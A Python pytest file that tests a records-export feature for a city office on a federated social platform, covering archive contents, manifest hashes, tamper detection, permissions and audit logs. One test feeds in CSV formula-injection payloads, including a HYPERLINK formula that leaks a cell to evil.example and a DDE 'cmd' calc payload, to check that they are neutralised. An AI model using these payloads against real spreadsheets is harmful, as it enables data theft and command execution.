"""Exporting an organisation's records: each scope unzipped and read back, the manifest verified,
a changed byte found, and the log of who exported what; on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from dataclasses import dataclass
from datetime import date, timezone
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select, update

from madang.core.clock import FrozenClock
from madang.core.errors import Forbidden, Invalid, NotFound
from madang.db import Database
from madang.desk.answers import answer_case
from madang.desk.cases import open_case
from madang.media import LocalMediaStore
from madang.core.clock import utcnow
from madang.core.ids import new_id
from madang.models import Account, MediaAttachment, Status, User
from madang.models.desk import Case, PersonalDataView
from madang.models.records import RecordsExport
from madang.records import Scope, export_records, verify_export
from madang.statuses.delete import delete_status
from madang.statuses.edit import edit_status
from madang.statuses.remote import RemoteMedia, RemotePost, store_remote_status
from tests.desk.city import SITE, START, City, clock_fixture, make_city, seoul  # noqa: F401
from tests.factories import make_status
from tests.media.factories import upload

pytestmark = pytest.mark.usefixtures("clock")
YEAR = (date(2026, 1, 1), date(2026, 12, 31))


@dataclass
class Records:
    city: City
    store: LocalMediaStore
    ids: dict[str, int]
    case: Case


async def build(db: Database, clock: FrozenClock, tmp_path: Path) -> Records:
    city = await make_city(db)
    store = LocalMediaStore(tmp_path / "media")
    ids: dict[str, int] = {}
    clock.at = seoul(2025, 12, 31, 23, 30).astimezone(timezone.utc)  # the evening before the range, in Seoul
    async with db.write() as s:
        ids["before"] = (await make_status(s, city.org, "작년 마지막 글 #안양")).id
    clock.at = seoul(2026, 1, 1, 0, 10).astimezone(timezone.utc)  # already 2026 in Seoul (still 31 December in UTC)
    async with db.write() as s:
        ids["new_year"] = (await make_status(s, city.org, "새해 복 많이 받으세요 #안양")).id
    clock.at = START.astimezone(timezone.utc)
    photo = await upload(db, store, city.org, description="안양천 다리")
    async with db.write() as s:
        edited = await make_status(s, city.org, "첫 글입니다 #안양")
        clock.advance(minutes=5)
        await edit_status(s, site=SITE, editor=city.org, status=edited, text="고친 글입니다 #안양")
        deleted = await make_status(s, city.org, "지울 글 #안양")
        await delete_status(s, actor=city.org, status=deleted)
        ids["edited"], ids["deleted"] = edited.id, deleted.id
        ids["dm"] = (await make_status(s, city.org, "@minsu 개인 안내입니다", visibility="direct")).id
        ids["photo"] = (await make_status(s, city.org, "오늘의 안양천", media_ids=[photo.id])).id
        ids["citizen_tag"] = (await make_status(s, city.citizen, "#안양 좋아요")).id
        gone = await make_status(s, city.citizen, "#안양 지운 시민 글")
        await delete_status(s, actor=city.citizen, status=gone)
        ids["citizen_gone"] = gone.id
        ids["citizen_private"] = (await make_status(s, city.citizen, "#안양 팔로워만", visibility="private")).id
        ids["citizen_dm"] = (await make_status(s, city.citizen, "@anyanglove 문의드립니다", visibility="direct")).id
        ids["citizen_other"] = (await make_status(s, city.citizen, "오늘 산책")).id
        question = await make_status(s, city.citizen, "@anyanglove 가로등이 고장났어요")
        ids["question"] = question.id
        case = await open_case(s, site=SITE, organisation=city.org, channel="mention", kind="grievance",
                               description=question.text, actor_id=city.triager.id, citizen=city.citizen,
                               source_status_id=question.id, notify=False)
    clock.advance(hours=2)
    async with db.write() as s:
        case = await answer_case(s, site=SITE, organisation=city.org, case_id=case.id, staff=city.admin,
                                 text="가로등은 내일 고치겠습니다.")
        ids["answer"] = case.answer_status_id  # type: ignore[assignment]
    async with db.read() as s:  # the request for a rating, sent to the citizen after the answer
        ids["rating_dm"] = await s.scalar(select(Status.id).where(
            Status.account_id == city.org.id, Status.visibility == "direct", Status.text.contains("만족도")))
    ids["photo_media"] = photo.id
    return Records(city, store, ids, case)


async def export(db: Database, records: Records, tmp_path: Path, scope: Scope, *, actor_id: int | None = None,
                 span: tuple[date, date] = YEAR, **options: Any) -> tuple[Path, Any]:
    path = tmp_path / f"{scope.kind}.zip"
    with path.open("wb") as out:
        result = await export_records(db, organisation="anyanglove", scope=scope, date_from=span[0], date_to=span[1],
                                      actor_id=actor_id or records.city.admin.id, out=out, store=records.store,
                                      **options)
    return path, result


def lines(archive: zipfile.ZipFile, name: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in archive.read(name).decode().splitlines()]


def csv_rows(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    data = archive.read(name)
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads Korean right only with the BOM
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


async def test_an_accounts_export_holds_every_post_revision_and_photo_and_verifies(
    db: Database, clock: FrozenClock, tmp_path: Path,
) -> None:
    records = await build(db, clock, tmp_path)
    ids = records.ids
    seen: list[tuple[int, int]] = []
    path, result = await export(db, records, tmp_path, Scope("account", "anyanglove"), batch=2,
                                progress=lambda done, total: seen.append((done, total)))
    assert verify_export(path) == []
    with zipfile.ZipFile(path) as archive:
        posts = {int(p["id"]): p for p in lines(archive, "posts.jsonl")}
        # Everything the city wrote in 2026 (Seoul days), deleted and direct included, and the DMs it received.
        assert set(posts) == {ids[k] for k in ("new_year", "edited", "deleted", "dm", "photo", "answer", "rating_dm",
                                                "citizen_dm")}
        assert posts[ids["edited"]]["text"] == "고친 글입니다 #안양"
        assert posts[ids["deleted"]]["deleted_at"].endswith("+09:00")
        assert posts[ids["dm"]]["visibility"] == "direct" and posts[ids["dm"]]["record"] == "authored"
        assert posts[ids["citizen_dm"]]["record"] == "received" and posts[ids["citizen_dm"]]["account"] == "minsu"
        assert posts[ids["new_year"]]["created_at"] == "2026-01-01T00:10:00+09:00"
        revisions = [r for r in lines(archive, "revisions.jsonl") if int(r["status_id"]) == ids["edited"]]
        assert [r["text"] for r in revisions] == ["첫 글입니다 #안양", "고친 글입니다 #안양"]
        media = posts[ids["photo"]]["media"]
        assert [m["description"] for m in media] == ["안양천 다리"]
        async with db.read() as s:
            key = await s.scalar(select(MediaAttachment.file_key).where(MediaAttachment.id == ids["photo_media"]))
        assert archive.read(media[0]["file"]) == records.store.read(key)  # type: ignore[arg-type]
        table = csv_rows(archive, "posts.csv")
        assert {r["id"] for r in table} == {str(i) for i in posts}
        assert next(r for r in table if r["id"] == str(ids["photo"]))["media"] == media[0]["file"]
        assert len(csv_rows(archive, "revisions.csv")) == len(lines(archive, "revisions.jsonl"))
        manifest = json.loads(archive.read("manifest.json"))
        manifest_bytes = archive.read("manifest.json")
    assert manifest["counts"] == {"posts": 8, "revisions": 9, "media": 1} == result.counts
    assert manifest["exported_by"]["username"] == "desk_admin"
    assert manifest["range"] == {"from": "2026-01-01", "to": "2026-12-31", "time_zone": "Asia/Seoul"}
    assert {f["name"] for f in manifest["files"]} == {"posts.jsonl", "posts.csv", "revisions.jsonl",
                                                      "revisions.csv", media[0]["file"]}
    assert seen[-1] == (8, 8) and len(seen) >= 4  # batches of two
    async with db.read() as s:
        logged = list(await s.scalars(select(RecordsExport)))
    assert len(logged) == 1
    entry = logged[0]
    assert (entry.account_id, entry.organisation_id, entry.scope_kind, entry.scope_value) == (
        records.city.admin.id, records.city.org.id, "account", "anyanglove")
    assert (entry.date_from, entry.date_to) == YEAR and entry.finished_at is not None
    assert entry.size == path.stat().st_size == result.size
    assert entry.manifest_sha256 == hashlib.sha256(manifest_bytes).hexdigest()
    assert entry.counts == result.counts


async def test_a_hashtags_export_keeps_the_citys_deleted_posts_but_not_a_citizens(
    db: Database, clock: FrozenClock, tmp_path: Path,
) -> None:
    records = await build(db, clock, tmp_path)
    ids = records.ids
    path, _ = await export(db, records, tmp_path, Scope("tag", "#안양"))
    assert verify_export(path) == []
    with zipfile.ZipFile(path) as archive:
        posts = {int(p["id"]) for p in lines(archive, "posts.jsonl")}
    assert posts == {ids[k] for k in ("new_year", "edited", "deleted", "citizen_tag")}


async def test_a_cases_export_holds_its_history_answer_and_posts(
    db: Database, clock: FrozenClock, tmp_path: Path,
) -> None:
    records = await build(db, clock, tmp_path)
    ids = records.ids
    path, result = await export(db, records, tmp_path, Scope("case", records.case.number))
    assert verify_export(path) == []
    with zipfile.ZipFile(path) as archive:
        case = json.loads(archive.read("case.json"))
        events = lines(archive, "events.jsonl")
        posts = {int(p["id"]) for p in lines(archive, "posts.jsonl")}
        assert len(csv_rows(archive, "events.csv")) == len(events)
    assert case["number"] == "2026-000001" and case["answer_private"] == "가로등은 내일 고치겠습니다."
    assert case["citizen"] == "minsu" and case["received_at"].endswith("+09:00")
    assert [e["action"] for e in events] == ["opened", "answer"]
    assert events[-1]["actor"] == "desk_admin"
    assert posts == {ids["question"], ids["answer"]}
    assert result.counts["events"] == 2
    async with db.read() as s:
        # The archive holds the unmasked question: the export is logged as a look at personal data.
        views = await s.scalar(select(func.count()).select_from(PersonalDataView).where(
            PersonalDataView.case_id == records.case.id, PersonalDataView.account_id == records.city.admin.id))
    assert views == 1


async def test_a_changed_byte_is_found(db: Database, clock: FrozenClock, tmp_path: Path) -> None:
    records = await build(db, clock, tmp_path)
    path, _ = await export(db, records, tmp_path, Scope("account", "anyanglove"))
    # A well-formed ZIP whose posts.jsonl says something else: only the manifest's sums notice.
    forged = tmp_path / "forged.zip"
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(forged, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "posts.jsonl":
                data = data.replace("고친 글입니다".encode(), "바꾼 글입니다".encode())
            target.writestr(info.filename, data)
    assert [p.split(":")[0] for p in verify_export(forged)] == ["posts.jsonl"]
    assert "SHA-256" in verify_export(forged)[0]
    # One byte flipped in the file itself.
    raw = bytearray(path.read_bytes())
    raw[len(raw) // 3] ^= 0xFF
    broken = tmp_path / "broken.zip"
    broken.write_bytes(bytes(raw))
    assert verify_export(broken) != []
    # A file slipped in beside the others.
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("extra.txt", "끼워 넣은 파일")
    assert verify_export(path) == ["extra.txt: in the archive but not in the manifest"]


async def test_only_office_admins_and_instance_admins_export_the_citys_own_records(
    db: Database, clock: FrozenClock, tmp_path: Path,
) -> None:
    records = await build(db, clock, tmp_path)
    city = records.city
    for actor in (city.triager, city.reader, city.outsider):
        with pytest.raises(Forbidden):
            await export(db, records, tmp_path, Scope("account", "anyanglove"), actor_id=actor.id)
    with pytest.raises(Forbidden):  # a citizen's own account (and DMs) is never the office's record
        await export(db, records, tmp_path, Scope("account", "minsu"))
    with pytest.raises(NotFound):
        await export(db, records, tmp_path, Scope("tag", "없는태그"))
    with pytest.raises(NotFound):
        await export(db, records, tmp_path, Scope("case", "2026-999999"))
    with pytest.raises(Invalid):
        await export(db, records, tmp_path, Scope("account", "anyanglove"), span=(date(2026, 2, 1), date(2026, 1, 1)))
    async with db.read() as s:
        assert await s.scalar(select(func.count()).select_from(RecordsExport)) == 0
    async with db.write() as s:
        await s.execute(update(User).where(User.account_id == city.outsider.id).values(admin=True))
    path, _ = await export(db, records, tmp_path, Scope("account", "anyanglove"), actor_id=city.outsider.id)
    assert verify_export(path) == []


async def test_deleting_and_editing_keep_every_revision(db: Database, clock: FrozenClock, tmp_path: Path) -> None:
    records = await build(db, clock, tmp_path)
    async with db.read() as s:
        deleted = await s.get(Status, records.ids["deleted"])
    assert deleted is not None and deleted.text == "지울 글 #안양" and deleted.deleted_at is not None


async def test_formulas_in_posts_reach_the_csv_as_text_and_the_json_lines_unchanged(
    db: Database, clock: FrozenClock, tmp_path: Path,
) -> None:
    """A spreadsheet runs a cell starting with = + - @ (or a tab or CR before one) as a formula."""
    city = await make_city(db)
    store = LocalMediaStore(tmp_path / "media")
    clock.at = START.astimezone(timezone.utc)
    texts = ['=HYPERLINK("https://evil.example/?"&A1,"안양시 공지")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
             "\t=1+1"]
    async with db.write() as s:
        post = await make_status(s, city.org, texts[0])
        clock.advance(minutes=5)
        await edit_status(s, site=SITE, editor=city.org, status=post, text=texts[1])
        for text in texts[2:]:
            await make_status(s, city.org, text)
    path = tmp_path / "account.zip"
    with path.open("wb") as out:
        await export_records(db, organisation="anyanglove", scope=Scope("account", "anyanglove"),
                             date_from=YEAR[0], date_to=YEAR[1], actor_id=city.admin.id, out=out, store=store)
    assert verify_export(path) == []
    with zipfile.ZipFile(path) as archive:
        json_texts = {p["text"] for p in lines(archive, "posts.jsonl")}
        csv_texts = {r["text"] for r in csv_rows(archive, "posts.csv")}
        revision_texts = [r["text"] for r in csv_rows(archive, "revisions.csv")]
        post_ids = {r["id"] for r in csv_rows(archive, "posts.csv")}
    assert json_texts == set(texts[1:])  # the record itself keeps what was written
    assert csv_texts == {"'" + t for t in texts[1:]}
    assert sorted(revision_texts) == sorted("'" + t for t in texts)  # every version, the first included
    assert all(i.isdigit() for i in post_ids)  # numbers are not touched


async def test_a_remote_citizens_case_is_exported_with_where_its_photo_lives(
    db: Database, clock: FrozenClock, tmp_path: Path,
) -> None:
    """Federation: a 민원 from a citizen on another server, with a photo this server only links
    to (link mode, or pruned), is exported whole: the citizen's full address, the post, and the
    photo's address there (no file in the archive, nothing named missing); the archive verifies."""
    records = await build(db, clock, tmp_path)
    async with db.write() as s:
        remote = Account(id=new_id(), username="hana", domain="social.example", acct_key="hana@social.example",
                         uri="https://social.example/users/hana", url="https://social.example/@hana",
                         inbox_url="https://social.example/users/hana/inbox", created_at=utcnow(), updated_at=utcnow())
        s.add(remote)
        await s.flush()
        question, _ = await store_remote_status(s, author=remote, post=RemotePost(
            uri="https://social.example/users/hana/statuses/7", url="https://social.example/@hana/7",
            content="<p>@anyanglove 보도블록이 깨졌어요</p>", text="@anyanglove 보도블록이 깨졌어요",
            mentioned=[records.city.org],
            media=[RemoteMedia(url="https://files.social.example/broken.jpg", content_type="image/jpeg",
                               description="깨진 보도블록")]))
        case = await open_case(s, site=SITE, organisation=records.city.org, channel="mention", kind="grievance",
                               description=question.text, actor_id=records.city.triager.id, citizen=remote,
                               source_status_id=question.id, notify=False)
    path, result = await export(db, records, tmp_path, Scope("case", case.number))
    assert verify_export(path) == []
    with zipfile.ZipFile(path) as archive:
        posts = {p["id"]: p for p in lines(archive, "posts.jsonl")}
        rows = csv_rows(archive, "posts.csv")
        document = json.loads(archive.read("case.json"))
        manifest = json.loads(archive.read("manifest.json"))
        assert not [n for n in archive.namelist() if n.startswith("media/")]
    post = posts[str(question.id)]
    assert post["account"] == "hana@social.example" and post["uri"] == "https://social.example/users/hana/statuses/7"
    assert post["media"] == [{"id": post["media"][0]["id"], "file": None, "content_type": "image/jpeg",
                              "description": "깨진 보도블록", "position": 0,
                              "remote_url": "https://files.social.example/broken.jpg"}]
    assert [r["media"] for r in rows if r["id"] == str(question.id)] == ["https://files.social.example/broken.jpg"]
    assert document["citizen"] == "hana@social.example"
    assert manifest["missing_media"] == []
